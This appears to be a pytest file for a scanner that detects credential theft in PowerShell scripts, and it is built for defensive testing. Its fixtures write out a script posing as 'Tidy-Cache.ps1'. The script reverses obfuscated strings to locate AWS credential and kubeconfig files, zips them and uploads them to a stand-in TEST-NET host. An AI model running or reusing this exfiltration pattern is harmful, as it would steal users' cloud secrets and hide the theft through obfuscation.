"""PowerShell strings spelled backwards and turned round at run time: character arrays, index ranges
(``$s[-1..-$s.Length]``, ``$a[($n - 1)..0]``), ``.Length`` and integer arithmetic are folded, so a path
hidden that way is the path it spells. Hosts are TEST-NET; nothing runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

UPLOAD = (
    "$bag = Join-Path $env:TEMP 'bag'\n"
    "foreach ($d in $dirs) { if (Test-Path $d) { Copy-Item $d $bag -Recurse -Force } }\n"
    'Compress-Archive -Path "$bag\\*" -DestinationPath "$bag.zip" -Force\n'
    "Invoke-RestMethod -Uri 'http://192.0.2.144/up' -Method Put -InFile \"$bag.zip\"\n"
)

TURNED = {
    "helper over a char array": (
        "function Flip([string]$t) { $c = $t.ToCharArray(); -join $c[($c.Length - 1)..0] }\n"
        "$dirs = @((Join-Path $HOME (Flip 'slaitnederc\\swa.')))\n"
    ),
    "negative index range inline": (
        "$w = 'gifnoc\\ebuk.'\n$dirs = @((Join-Path $env:USERPROFILE (-join $w[-1..-($w.Length)])))\n"
    ),
}


@pytest.mark.parametrize("case", sorted(TURNED))
def test_a_secret_store_spelled_backwards_is_read(tmp_path: Path, case: str) -> None:
    errors = scan_errors(tmp_path, {"scripts/Tidy-Cache.ps1": TURNED[case] + UPLOAD})
    assert [e for e in errors if e[0] == "CREDENTIAL_EXFILTRATION"]


def test_a_reversed_project_folder_uploaded_is_no_error(tmp_path: Path) -> None:
    turned = (
        "function Flip([string]$t) { -join ($t.ToCharArray()[($t.Length - 1)..0]) }\n"
        "$dirs = @((Join-Path $PSScriptRoot (Flip 'sgol\\dliub')))\n"
    )
    assert not scan_errors(tmp_path, {"scripts/Tidy-Cache.ps1": turned + UPLOAD})
